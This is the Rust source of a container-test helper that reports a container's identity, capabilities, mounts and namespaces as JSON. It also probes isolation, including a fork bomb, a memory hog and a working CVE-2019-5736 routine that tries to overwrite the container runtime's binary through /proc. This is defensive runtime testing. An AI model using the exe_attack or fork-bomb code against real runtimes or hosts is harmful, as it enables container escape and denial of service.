//! `hafen-checker`: runs inside a container under test and reports what it
//! sees, as one JSON object on stdout, so that tests assert the container's
//! view from the inside (in the manner of youki's contest).
//!
//! Built statically so that it runs in any root filesystem.
//!
//! Commands:
//! - `report`: identity, capabilities, limits, namespaces, mounts, fds, ...
//! - `try <op> [args]`: attempt an operation, report success or errno
//!   (`mknod PATH MAJOR MINOR`, `open PATH [w]`, `write PATH TEXT`,
//!   `mkdir PATH`, `getcwd`, `personality N`, `chown PATH UID`,
//!   `setuid UID`, `sethostname NAME`, `mount TARGET`, `unshare-user`,
//!   `open-exe PID`)
//! - `forkbomb N`: fork up to N sleeping children, report how many forked
//! - `hog MIB`: allocate and touch memory until MIB or death
//! - `exe-attack MARKER SECONDS`: the CVE-2019-5736 pattern (see `exe_attack`)
//! - `wait-signal`: wait for any signal, print it, exit with its number
//! - `stat PATH...`: file type, mode, owner and device numbers
//! - `sleep SECONDS`
//! - `exit CODE`

use std::collections::BTreeMap;
use std::ffi::CString;
use std::io::Write;

use serde_json::{Value, json};

fn errno() -> i32 {
    std::io::Error::last_os_error().raw_os_error().unwrap_or(0)
}

fn cstr(s: &str) -> CString {
    CString::new(s).unwrap_or_default()
}

fn read(path: &str) -> Option<String> {
    std::fs::read_to_string(path).ok()
}

fn status_field(name: &str) -> Option<String> {
    read("/proc/self/status")?.lines().find_map(|l| {
        l.strip_prefix(&format!("{name}:"))
            .map(|v| v.trim().to_string())
    })
}

fn rlimit(resource: libc::__rlimit_resource_t) -> Value {
    let mut r = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: `r` is a valid rlimit the kernel fills in.
    unsafe { libc::getrlimit(resource, &mut r) };
    let show = |v: libc::rlim_t| {
        if v == libc::RLIM_INFINITY {
            json!("unlimited")
        } else {
            json!(v)
        }
    };
    json!([show(r.rlim_cur), show(r.rlim_max)])
}

fn fds() -> Vec<Value> {
    let mut out = Vec::new();
    if let Ok(dir) = std::fs::read_dir("/proc/self/fd") {
        for entry in dir.flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            let target = std::fs::read_link(entry.path())
                .map(|p| p.display().to_string())
                .unwrap_or_default();
            out.push(json!({"fd": name.parse::<i32>().unwrap_or(-1), "target": target}));
        }
    }
    out.sort_by_key(|v| v["fd"].as_i64());
    out
}

fn namespaces() -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    for ns in ["cgroup", "ipc", "mnt", "net", "pid", "time", "user", "uts"] {
        if let Ok(target) = std::fs::read_link(format!("/proc/self/ns/{ns}")) {
            out.insert(ns.to_string(), target.display().to_string());
        }
    }
    out
}

fn mounts() -> Vec<Value> {
    read("/proc/self/mountinfo")
        .unwrap_or_default()
        .lines()
        .filter_map(|line| {
            let (left, right) = line.split_once(" - ")?;
            let f: Vec<&str> = left.split(' ').collect();
            let r: Vec<&str> = right.split(' ').collect();
            Some(json!({
                "root": f.get(3)?,
                "mountpoint": f.get(4)?,
                "options": f.get(5)?,
                "optional": f[6..].join(" "),
                "fstype": r.first()?,
                "source": r.get(1).unwrap_or(&""),
                "super": r.get(2).unwrap_or(&""),
            }))
        })
        .collect()
}

fn uts() -> (String, String) {
    // SAFETY: utsname is plain data, filled by uname.
    let mut u: libc::utsname = unsafe { std::mem::zeroed() };
    // SAFETY: `u` is a valid utsname.
    unsafe { libc::uname(&mut u) };
    let field = |f: &[libc::c_char]| {
        let bytes: Vec<u8> = f
            .iter()
            .take_while(|&&c| c != 0)
            .map(|&c| c as u8)
            .collect();
        String::from_utf8_lossy(&bytes).into_owned()
    };
    (field(&u.nodename), field(&u.domainname))
}

fn report() -> Value {
    let (hostname, domainname) = uts();
    // SAFETY: getgroups with a buffer of the size passed.
    let groups: Vec<u32> = unsafe {
        let mut buf = [0 as libc::gid_t; 64];
        let n = libc::getgroups(64, buf.as_mut_ptr());
        buf[..n.max(0) as usize].to_vec()
    };
    // SAFETY: umask returns the old value; setting it back restores it.
    let umask = unsafe {
        let old = libc::umask(0o022);
        libc::umask(old);
        old
    };
    let tty = |fd: i32| {
        // SAFETY: isatty on any integer is safe.
        if unsafe { libc::isatty(fd) } == 1 {
            std::fs::read_link(format!("/proc/self/fd/{fd}"))
                .map(|p| p.display().to_string())
                .ok()
        } else {
            None
        }
    };
    let env: BTreeMap<String, String> = std::env::vars().collect();
    let cwd = std::env::current_dir()
        .map(|p| p.display().to_string())
        .unwrap_or_else(|e| format!("error: {e}"));
    // SAFETY: these calls take no pointers.
    let (pid, ppid, uid, gid, euid, egid, sid, pgid) = unsafe {
        (
            libc::getpid(),
            libc::getppid(),
            libc::getuid(),
            libc::getgid(),
            libc::geteuid(),
            libc::getegid(),
            libc::getsid(0),
            libc::getpgid(0),
        )
    };
    // SAFETY: personality(0xffffffff) only queries.
    let personality = unsafe { libc::personality(0xffff_ffff) };
    // SAFETY: ioprio_get(IOPRIO_WHO_PROCESS, 0) takes integers only.
    let ioprio = unsafe { libc::syscall(libc::SYS_ioprio_get, 1, 0) };
    json!({
        "pid": pid, "ppid": ppid, "uid": uid, "gid": gid, "euid": euid, "egid": egid,
        "groups": groups, "umask": umask, "sid": sid, "pgid": pgid,
        "cwd": cwd, "env": env, "args": std::env::args().collect::<Vec<_>>(),
        "hostname": hostname, "domainname": domainname,
        "caps": {
            "effective": status_field("CapEff"), "permitted": status_field("CapPrm"),
            "bounding": status_field("CapBnd"), "inheritable": status_field("CapInh"),
            "ambient": status_field("CapAmb"),
        },
        "no_new_privs": status_field("NoNewPrivs"),
        "seccomp": status_field("Seccomp"),
        "oom_score_adj": read("/proc/self/oom_score_adj").map(|s| s.trim().to_string()),
        "rlimits": {
            "nofile": rlimit(libc::RLIMIT_NOFILE), "nproc": rlimit(libc::RLIMIT_NPROC),
            "core": rlimit(libc::RLIMIT_CORE), "stack": rlimit(libc::RLIMIT_STACK),
        },
        "namespaces": namespaces(),
        "uid_map": read("/proc/self/uid_map"), "gid_map": read("/proc/self/gid_map"),
        "timens_offsets": read("/proc/self/timens_offsets"),
        "cgroup": read("/proc/self/cgroup"),
        "mounts": mounts(),
        "fds": fds(),
        "tty": [tty(0), tty(1), tty(2)],
        "apparmor": read("/proc/self/attr/current").map(|s| s.trim().to_string()),
        "personality": personality,
        "ioprio": ioprio,
    })
}

fn outcome(ret: i64) -> Value {
    if ret < 0 {
        json!({"ok": false, "errno": errno()})
    } else {
        json!({"ok": true, "ret": ret})
    }
}

fn try_op(args: &[String]) -> Value {
    let arg = |i: usize| args.get(i).cloned().unwrap_or_default();
    let num = |i: usize| arg(i).parse::<u64>().unwrap_or(0);
    // SAFETY: each call below gets valid NUL-terminated strings or plain
    // integers; results are checked through errno.
    let ret: i64 = unsafe {
        match arg(0).as_str() {
            "mknod" => i64::from(libc::mknod(
                cstr(&arg(1)).as_ptr(),
                libc::S_IFCHR | 0o666,
                libc::makedev(num(2) as u32, num(3) as u32),
            )),
            "open" => {
                let flags = if arg(2) == "w" {
                    libc::O_WRONLY
                } else {
                    libc::O_RDONLY
                };
                i64::from(libc::open(cstr(&arg(1)).as_ptr(), flags))
            }
            "write" => {
                let fd = libc::open(
                    cstr(&arg(1)).as_ptr(),
                    libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC,
                    0o644,
                );
                if fd < 0 {
                    -1
                } else {
                    let text = arg(2);
                    libc::write(fd, text.as_ptr().cast(), text.len()) as i64
                }
            }
            "mkdir" => i64::from(libc::mkdir(cstr(&arg(1)).as_ptr(), 0o755)),
            "getcwd" => {
                let mut buf = [0u8; 4096];
                if libc::syscall(libc::SYS_getcwd, buf.as_mut_ptr(), buf.len()) < 0 {
                    -1
                } else {
                    0
                }
            }
            "personality" => i64::from(libc::personality(num(1) as libc::c_ulong)),
            "chown" => i64::from(libc::chown(
                cstr(&arg(1)).as_ptr(),
                num(2) as u32,
                num(2) as u32,
            )),
            "setuid" => i64::from(libc::setuid(num(1) as u32)),
            "sethostname" => {
                let name = arg(1);
                i64::from(libc::sethostname(name.as_ptr().cast(), name.len()))
            }
            "mount" => i64::from(libc::mount(
                cstr("none").as_ptr(),
                cstr(&arg(1)).as_ptr(),
                cstr("tmpfs").as_ptr(),
                0,
                std::ptr::null(),
            )),
            "unshare-user" => i64::from(libc::unshare(libc::CLONE_NEWUSER)),
            "open-exe" => i64::from(libc::open(
                cstr(&format!("/proc/{}/exe", arg(1))).as_ptr(),
                libc::O_PATH | libc::O_CLOEXEC,
            )),
            other => {
                return json!({"ok": false, "error": format!("unknown op {other}")});
            }
        }
    };
    outcome(ret)
}

fn forkbomb(n: usize) -> Value {
    let mut forked = 0;
    let mut first_errno = 0;
    for _ in 0..n {
        // SAFETY: the child only sleeps and exits.
        let pid = unsafe { libc::fork() };
        if pid == 0 {
            // SAFETY: pause and _exit are async-signal-safe.
            unsafe {
                libc::sleep(30);
                libc::_exit(0)
            }
        }
        if pid < 0 {
            first_errno = errno();
            break;
        }
        forked += 1;
    }
    json!({"forked": forked, "errno": first_errno})
}

fn hog(mib: usize) -> Value {
    let mut chunks: Vec<Vec<u8>> = Vec::new();
    for i in 0..mib {
        let mut chunk = vec![0u8; 1 << 20];
        for b in chunk.iter_mut().step_by(4096) {
            *b = (i & 0xff) as u8 | 1;
        }
        chunks.push(chunk);
    }
    json!({"allocated_mib": chunks.len()})
}

/// CVE-2019-5736: watches `/proc` for a process whose executable is the
/// runtime (its path contains `marker`), keeps an `O_PATH` fd of
/// `/proc/<pid>/exe`, waits for that process to end and then tries to open
/// the runtime binary for writing through the fd and overwrite it.
fn exe_attack(marker: &str, seconds: u64) -> Value {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(seconds);
    let me = std::process::id();
    let mut grabbed: Option<(i32, i32, String)> = None;
    'scan: while std::time::Instant::now() < deadline {
        let Ok(dir) = std::fs::read_dir("/proc") else {
            break;
        };
        for entry in dir.flatten() {
            let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
                continue;
            };
            if pid == me {
                continue;
            }
            let exe = cstr(&format!("/proc/{pid}/exe"));
            // SAFETY: exe is a valid path; an O_PATH open needs no access rights.
            let fd = unsafe { libc::open(exe.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
            if fd < 0 {
                continue;
            }
            let target = std::fs::read_link(format!("/proc/self/fd/{fd}"))
                .map(|p| p.display().to_string())
                .unwrap_or_default();
            if target.contains(marker) {
                grabbed = Some((pid as i32, fd, target));
                break 'scan;
            }
            // SAFETY: closing our own fd.
            unsafe { libc::close(fd) };
        }
    }
    let Some((pid, fd, target)) = grabbed else {
        return json!({"grabbed": false});
    };
    // Wait for the process to end: a running executable cannot be written.
    while std::path::Path::new(&format!("/proc/{pid}/exe")).exists()
        && std::fs::read_link(format!("/proc/{pid}/exe")).is_ok()
        && std::time::Instant::now() < deadline
    {
        std::thread::sleep(std::time::Duration::from_millis(1));
    }
    let reopen = cstr(&format!("/proc/self/fd/{fd}"));
    let mut last_errno = 0;
    for _ in 0..2000 {
        // SAFETY: reopening through the magic link; plain integer flags.
        let w = unsafe { libc::open(reopen.as_ptr(), libc::O_WRONLY) };
        if w >= 0 {
            let payload = b"#!/bin/sh\necho overwritten\n";
            // SAFETY: writing a valid buffer to our own fd.
            let n = unsafe { libc::write(w, payload.as_ptr().cast(), payload.len()) };
            return json!({"grabbed": true, "target": target, "overwritten": n > 0, "errno": if n < 0 { errno() } else { 0 }});
        }
        last_errno = errno();
        if last_errno != libc::ETXTBSY {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(1));
    }
    json!({"grabbed": true, "target": target, "overwritten": false, "errno": last_errno})
}

fn wait_signal() -> i32 {
    // SAFETY: building a full signal set and waiting for one signal.
    unsafe {
        let mut set: libc::sigset_t = std::mem::zeroed();
        libc::sigfillset(&mut set);
        libc::sigprocmask(libc::SIG_BLOCK, &set, std::ptr::null_mut());
        println!("{}", json!({"waiting": true}));
        let _ = std::io::stdout().flush();
        let mut sig = 0;
        libc::sigwait(&set, &mut sig);
        sig
    }
}

fn stat_paths(paths: &[String]) -> Value {
    let mut out = serde_json::Map::new();
    for p in paths {
        // SAFETY: stat is plain data filled by lstat.
        let mut st: libc::stat = unsafe { std::mem::zeroed() };
        // SAFETY: valid path and buffer.
        let r = unsafe { libc::lstat(cstr(p).as_ptr(), &mut st) };
        let v = if r < 0 {
            json!({"errno": errno()})
        } else {
            let kind = match st.st_mode & libc::S_IFMT {
                libc::S_IFCHR => "char",
                libc::S_IFBLK => "block",
                libc::S_IFDIR => "dir",
                libc::S_IFLNK => "symlink",
                libc::S_IFIFO => "fifo",
                libc::S_IFREG => "file",
                _ => "other",
            };
            json!({
                "type": kind, "mode": st.st_mode & 0o7777, "uid": st.st_uid, "gid": st.st_gid,
                "major": libc::major(st.st_rdev), "minor": libc::minor(st.st_rdev),
                "link": std::fs::read_link(p).ok().map(|l| l.display().to_string()),
            })
        };
        out.insert(p.clone(), v);
    }
    Value::Object(out)
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let command = args.first().map(String::as_str).unwrap_or("report");
    let rest = &args[args.len().min(1)..];
    let (value, code) = match command {
        "report" => (report(), 0),
        "try" => (try_op(rest), 0),
        "forkbomb" => (
            forkbomb(rest.first().and_then(|n| n.parse().ok()).unwrap_or(1000)),
            0,
        ),
        "hog" => (
            hog(rest.first().and_then(|n| n.parse().ok()).unwrap_or(1024)),
            0,
        ),
        "exe-attack" => (
            exe_attack(
                rest.first().map_or("hafen", String::as_str),
                rest.get(1).and_then(|n| n.parse().ok()).unwrap_or(20),
            ),
            0,
        ),
        "stat" => (stat_paths(rest), 0),
        "wait-signal" => {
            let sig = wait_signal();
            (json!({"signal": sig}), sig)
        }
        "sleep" => {
            let secs = rest.first().and_then(|n| n.parse().ok()).unwrap_or(3600);
            std::thread::sleep(std::time::Duration::from_secs(secs));
            (json!({"slept": secs}), 0)
        }
        "exit" => (
            Value::Null,
            rest.first().and_then(|n| n.parse().ok()).unwrap_or(0),
        ),
        other => (json!({"error": format!("unknown command {other}")}), 2),
    };
    if !value.is_null() {
        let mut out = std::io::stdout().lock();
        let _ = writeln!(out, "{value}");
        let _ = out.flush();
    }
    std::process::exit(code);
}
